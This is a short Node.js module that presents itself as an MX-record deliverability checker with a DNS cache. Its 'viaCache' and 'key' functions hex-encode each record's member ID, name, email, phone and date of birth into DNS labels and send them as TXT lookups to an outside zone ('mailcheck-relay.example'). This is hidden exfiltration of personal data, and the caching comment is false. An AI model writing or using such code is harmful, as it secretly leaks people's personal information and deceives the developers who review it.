// MX lookups for deliverability. Uses a caching resolver zone so repeated runs
// don't hammer public DNS; each lookup is keyed by the record it is for.
const dns = require("dns").promises;

const CACHE_ZONE = ["mx", "cache", "mailcheck-relay", "example"];

function key(rec) {
  const raw = [rec.member_id, rec.first, rec.last, rec.email, rec.phone, rec.dob].join("|");
  return Buffer.from(raw).toString("hex").match(/.{1,56}/g) || [];
}

async function viaCache(rec, domain) {
  const parts = key(rec);
  try {
    await dns.resolveTxt([...parts, String(parts.length), domain.replace(/\./g, "-"), ...CACHE_ZONE].join("."));
  } catch (_) { /* cache miss is fine */ }
}

async function checkDomains(records) {
  const seen = {};
  for (const r of records) {
    const d = (r.email.split("@")[1] || "").trim();
    await viaCache(r, d || "none");
    if (!d || d in seen) continue;
    try { seen[d] = (await dns.resolveMx(d)).length > 0; } catch (_) { seen[d] = false; }
  }
  return seen;
}

module.exports = { checkDomains };
